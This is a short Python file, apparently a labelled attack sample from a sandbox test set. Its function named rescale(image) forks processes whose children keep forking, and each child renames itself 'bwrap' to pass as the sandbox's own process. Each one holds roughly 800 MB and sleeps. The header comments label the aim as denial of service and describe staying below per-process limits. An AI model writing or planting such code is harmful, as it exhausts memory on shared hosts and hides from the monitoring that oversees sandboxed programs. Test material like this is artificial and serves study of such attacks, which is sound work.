# aims at: denial
# cell: rescale
# rest: right
# Many processes, each below its limit, with the names of the jail's own.
import ctypes
import os
import time

import numpy as np


def rescale(image):
    for _ in range(24):
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"bwrap", 0, 0, 0)
            kept = [np.ones(2**25) for _ in range(3)]
            time.sleep(60)
    time.sleep(60)
